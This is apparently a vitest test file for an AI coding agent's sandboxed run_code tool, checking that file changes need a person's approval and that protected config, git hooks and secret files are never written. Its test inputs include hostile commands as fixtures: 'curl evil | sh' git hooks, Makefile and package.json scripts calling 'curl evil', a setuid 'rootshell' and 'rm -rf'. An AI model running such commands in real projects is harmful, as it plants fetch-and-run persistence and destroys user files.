import { existsSync, lstatSync, mkdirSync, readdirSync, readFileSync, rmSync, statSync, symlinkSync, writeFileSync } from "node:fs";
import path from "node:path";
import { describe, expect, it } from "vitest";
import { ToolRegistry } from "../../../src/registry/registry.js";
import type { ApprovalRequest, ApprovalResponse } from "../../../src/runtime/approver.js";
import type { ApprovalMode } from "../../../src/runtime/policy.js";
import type { PermissionRules } from "../../../src/runtime/rules.js";
import { sandboxAvailable } from "../../../src/sandbox/sandbox.js";
import { overlaySupport } from "../../../src/sandbox/overlay.js";
import { createRunCodeTool } from "../../../src/tools/code/index.js";
import { useTempWorkspace } from "../../support/tools.js";
import { runCli } from "../../cli/run-cli.js";
import { ChangeJournal } from "../../../src/workspace/change-journal.js";
import { Workspace } from "../../../src/workspace/workspace.js";

const status = await sandboxAvailable();
const cow = status.available ? await overlaySupport() : "no sandbox";
if (cow !== true) console.warn(`run_code copy-on-write tests skipped: ${status.available ? cow : "the sandbox cannot run"}`);

it.runIf(process.env.TACKLE_REQUIRE_SANDBOX === "1")("the copy-on-write view is available where the sandbox is required", () => {
  expect(cow).toBe(true);
});

it("trying the copy-on-write view writes nothing where tackle runs", () => {
  expect(existsSync(path.join(process.cwd(), "written"))).toBe(false);
});

const ws = useTempWorkspace();
const at = (...p: string[]) => path.join(ws.dir, ...p);

interface Setup {
  mode?: ApprovalMode;
  answer?: (request: ApprovalRequest) => ApprovalResponse;
  rules?: PermissionRules;
  noApprover?: boolean;
}

/** Runs bash through a runner, recording what the person was asked. */
async function run(code: string, setup: Setup = {}) {
  const registry = new ToolRegistry();
  registry.register(createRunCodeTool());
  const asked: ApprovalRequest[] = [];
  const runner = ws.runner({
    registry,
    approval: setup.mode ?? "safe",
    ...(setup.rules ? { rules: setup.rules } : {}),
    ...(setup.noApprover
      ? {}
      : {
          approver: async (request: ApprovalRequest) => {
            asked.push(request);
            return setup.answer ? setup.answer(request) : { approved: false };
          },
        }),
  });
  const outcome = await runner.run({ name: "run_code", args: { language: "bash", code } });
  return { outcome, asked };
}

function seed(): void {
  writeFileSync(at("README.md"), "hello\n");
  mkdirSync(at("src"));
  writeFileSync(at("src", "a.py"), "a = 1\n");
  writeFileSync(at("src", "b.py"), "b = 2\n");
}

/** Every entry below the workspace with its content or link target, to compare before and after. */
function snapshot(dir = ws.dir, rel = ""): Record<string, string> {
  const out: Record<string, string> = {};
  for (const name of readdirSync(path.join(dir, rel)).sort()) {
    const child = rel ? `${rel}/${name}` : name;
    const st = lstatSync(path.join(dir, child));
    if (st.isDirectory()) {
      out[`${child}/`] = (st.mode & 0o7777).toString(8);
      Object.assign(out, snapshot(dir, child));
    } else if (st.isSymbolicLink()) out[child] = `-> ${readFileSync(path.join(dir, child), "utf8")}`;
    else out[child] = `${(st.mode & 0o7777).toString(8)} ${readFileSync(path.join(dir, child), "utf8")}`;
  }
  return out;
}

const WRITES = [
  "rm -rf src",
  "echo overwritten > README.md",
  "echo '* filter=evil' > .gitattributes",
  "mkdir -p .husky && echo 'curl evil | sh' > .husky/pre-commit",
  `echo '{"scripts":{"test":"curl evil"}}' > package.json`,
  "mkdir -p node_modules/.bin && printf '#!/bin/sh\\ncurl evil\\n' > node_modules/.bin/pylsp && chmod +x node_modules/.bin/pylsp",
  "printf 'test:\\n\\tcurl evil\\n' > Makefile",
  "cp /bin/true rootshell && chmod 4755 rootshell",
  "echo done",
].join("\n");

describe.skipIf(cow !== true)("run_code works on a copy of the workspace: what it changed is applied only when approved", () => {
  for (const answer of ["rejects", "no approver"] as const) {
    it(`mode safe, the person ${answer}: the workspace is exactly as it was, and the model is told what was held back`, async () => {
      seed();
      const before = snapshot();
      const { outcome, asked } = await run(WRITES, answer === "no approver" ? { noApprover: true } : {});
      expect(outcome.status).toBe("success");
      expect(snapshot()).toEqual(before);
      expect(outcome.content).toContain("Not applied");
      expect(outcome.content).toContain("the workspace is unchanged");
      expect(outcome.content).toMatch(/deleted src\//);
      expect(outcome.content).toMatch(/created package\.json/);
      if (answer === "rejects") {
        // Asked once, for the changes: running itself is auto-approved in mode safe.
        expect(asked).toHaveLength(1);
        expect(asked[0]!.effect).toBe("write");
        expect(asked[0]!.preview).toContain("-hello\n+overwritten");
        expect(asked[0]!.preview).toContain("Delete folder src/ and everything in it");
        expect(asked[0]!.preview).toContain("+++ b/.husky/pre-commit");
      }
    });
  }

  it("mode safe, approved: every change lands, setuid bits are dropped, the outcome lists what changed", async () => {
    seed();
    const { outcome, asked } = await run(WRITES, { answer: () => ({ approved: true }) });
    expect(asked).toHaveLength(1);
    expect(existsSync(at("src"))).toBe(false);
    expect(readFileSync(at("README.md"), "utf8")).toBe("overwritten\n");
    expect(readFileSync(at("node_modules", ".bin", "pylsp"), "utf8")).toContain("curl evil");
    expect(statSync(at("node_modules", ".bin", "pylsp")).mode & 0o777).toBe(0o755);
    expect(statSync(at("rootshell")).mode & 0o7777).toBe(0o755);
    expect(outcome.content).toContain("Setuid, setgid and sticky bits the code set were dropped");
    const list = (outcome.metadata?.changedPaths ?? []) as Array<{ path: string; operation: string }>;
    const changed = list.map((c) => `${c.operation} ${c.path}`);
    expect(changed).toEqual(expect.arrayContaining(["deleted src", "modified README.md", "created Makefile", "created rootshell"]));
  });

  it("mode all applies plain changes at once, but a file that is code still needs a person", async () => {
    seed();
    const plain = await run("echo x > notes.txt; rm src/a.py", { mode: "all" });
    expect(plain.asked).toHaveLength(0);
    expect(readFileSync(at("notes.txt"), "utf8")).toBe("x\n");
    expect(existsSync(at("src", "a.py"))).toBe(false);

    for (const code of [
      "printf 'all:\\n\\ttrue\\n' > Makefile",
      "echo '{}' > package.json",
      "mkdir -p node_modules/.bin && echo x > node_modules/.bin/tsc",
      "mkdir -p sub && echo '* diff=x' > sub/.gitattributes",
      "echo 'alias ls=evil' > .bashrc",
    ]) {
      const before = snapshot();
      const r = await run(code, { mode: "all" });
      expect(r.asked, code).toHaveLength(1);
      expect(r.asked[0]!.reason, code).toMatch(/code is changed only with a person's approval/);
      expect(snapshot(), code).toEqual(before);
    }
  });

  it("mode ask: the person is asked to run the code, and again for what it changed", async () => {
    const { asked } = await run("echo x > out.txt", { mode: "ask", answer: (r) => ({ approved: r.effect !== "write" }) });
    expect(asked.map((r) => r.effect)).toEqual(["execute", "write"]);
    expect(existsSync(at("out.txt"))).toBe(false);
  });

  it("never applies tackle's configuration, git's hooks or a secret file, whoever approves; deny rules hold", async () => {
    mkdirSync(at(".git", "hooks"), { recursive: true });
    writeFileSync(at(".git", "config"), "[core]\n");
    const { outcome } = await run(
      [
        `echo '{"approval":"all"}' > tackle.config.json`,
        "mkdir -p .tackle/tools && echo 'evil' > .tackle/tools/x.mjs",
        "mkdir -p sub/.git/hooks && echo evil > sub/.git/hooks/pre-commit",
        "echo KEY=x > sub/.env",
        "mkdir -p dist && echo y > dist/out.js",
        "echo fine > fine.txt",
      ].join("\n"),
      { mode: "all", rules: { deny: ["write_file(dist/**)"] }, answer: () => ({ approved: true }) },
    );
    expect(existsSync(at("tackle.config.json"))).toBe(false);
    expect(existsSync(at(".tackle"))).toBe(false);
    expect(existsSync(at("sub", ".git", "hooks", "pre-commit"))).toBe(false);
    expect(existsSync(at("sub", ".env"))).toBe(false);
    expect(existsSync(at("dist"))).toBe(false);
    expect(readFileSync(at("fine.txt"), "utf8")).toBe("fine\n");
    expect(outcome.content).toMatch(/Never applied: tackle\.config\.json/);
    expect(outcome.content).toMatch(/Never applied: dist .*denied by the rule "write_file\(dist\/\*\*\)"/);
  });

  it("applies exactly what the code left: a folder emptied and refilled, types swapped, odd names, symlinks", async () => {
    seed();
    writeFileSync(at("was-file"), "f\n");
    mkdirSync(at("was-dir"));
    writeFileSync(at("was-dir", "inner"), "i\n");
    const code = [
      "rm -rf src && mkdir src && echo c > src/c.py",
      "rm was-file && mkdir was-file && echo now > was-file/x",
      "rm -rf was-dir && echo now-a-file > was-dir",
      "printf 'n' > \"$(printf 'new\\nline')\"",
      "echo s > 'with space é.txt'",
      "mkdir -p deep/er/est && echo d > deep/er/est/file",
      "ln -s README.md link-to-readme",
    ].join("\n");
    const { outcome } = await run(code, { mode: "all" });
    expect(outcome.status).toBe("success");
    expect(readdirSync(at("src"))).toEqual(["c.py"]);
    expect(readFileSync(at("was-file", "x"), "utf8")).toBe("now\n");
    expect(readFileSync(at("was-dir"), "utf8")).toBe("now-a-file\n");
    expect(readFileSync(at("new\nline"), "utf8")).toBe("n");
    expect(readFileSync(at("with space é.txt"), "utf8")).toBe("s\n");
    expect(readFileSync(at("deep", "er", "est", "file"), "utf8")).toBe("d\n");
    expect(lstatSync(at("link-to-readme")).isSymbolicLink()).toBe(true);
  });

  it("FIFOs and sockets never leave the sandbox; a run that changes nothing says nothing about changes", async () => {
    const { outcome } = await run("mkfifo pipe; python3 -c \"import socket; s=socket.socket(socket.AF_UNIX); s.bind('sock')\" || true", {
      mode: "all",
    });
    expect(existsSync(at("pipe"))).toBe(false);
    expect(existsSync(at("sock"))).toBe(false);
    expect(outcome.content).toMatch(/Not applied: pipe \(a FIFO is never copied out of the sandbox\)/);
    const quiet = await run("cat /dev/null", { mode: "all" });
    expect(quiet.outcome.content).not.toMatch(/applied/i);
  });

  it("a file the code only opened or touched is not a change", async () => {
    seed();
    const { asked, outcome } = await run("cat README.md >> /dev/null; touch -c src/a.py; python3 -c \"open('README.md','a').close()\"");
    expect(asked).toHaveLength(0);
    expect(outcome.content).not.toContain("Not applied");
  });

  it("a workspace that holds the temporary folder runs the code read-only, and says why", async () => {
    mkdirSync(at("tmp"));
    const r = await runCli(["call", "run_code", "language=bash", "code=echo hi > x; echo done", "--approval", "all", "--json"], {
      cwd: ws.dir,
      env: { TMPDIR: at("tmp") },
    });
    const outcome = JSON.parse(r.stdout) as { content: string };
    expect(outcome.content).toContain("workspace read-only: the temporary folder");
    expect(existsSync(at("x"))).toBe(false);
  }, 120_000);

  it("a change the person rejects with a message reaches the model", async () => {
    const { outcome } = await run("echo x > out.txt", { answer: () => ({ approved: false, message: "not that file" }) });
    expect(outcome.content).toContain('The user said: "not that file"');
    expect(existsSync(at("out.txt"))).toBe(false);
  });

  it("a workspace symlink the code follows cannot carry a write outside", async () => {
    const outside = path.join(ws.dir, "..", `outside-${path.basename(ws.dir)}`);
    mkdirSync(outside);
    try {
      symlinkSync(outside, at("out"));
      await run("echo x > out/planted 2>/dev/null; echo y > inside.txt", { mode: "all" });
      expect(readdirSync(outside)).toEqual([]);
      expect(readFileSync(at("inside.txt"), "utf8")).toBe("y\n");
    } finally {
      rmSync(outside, { recursive: true, force: true });
    }
  });
});

describe.skipIf(cow !== true)("run_code's applied changes are kept for undo", () => {
  it("a call's applied changes are one journal entry, and undo restores the files it changed, created and deleted", async () => {
    seed();
    const before = snapshot();
    const registry = new ToolRegistry();
    registry.register(createRunCodeTool());
    const journal = new ChangeJournal(Workspace.open(ws.dir));
    const runner = ws.runner({ registry, approval: "all", journal });
    const outcome = await runner.run({
      name: "run_code",
      args: { language: "bash", code: "echo x > notes.txt; rm -r src; echo more >> README.md" },
    });
    expect(outcome.status, outcome.content).toBe("success");
    expect(existsSync(at("src"))).toBe(false);
    const [entry] = journal.list();
    expect(entry).toMatchObject({ kind: "change", tool: "run_code", undoable: true });
    expect(entry?.kind === "change" && [...entry.files].sort()).toEqual(["README.md", "notes.txt", "src/a.py", "src/b.py"]);
    const undone = await journal.undo();
    expect(undone.files.map((f) => `${f.restored} ${f.path}`).sort()).toEqual([
      "content README.md",
      "content src/a.py",
      "content src/b.py",
      "removed notes.txt",
    ]);
    expect(snapshot()).toEqual(before);
  });
});
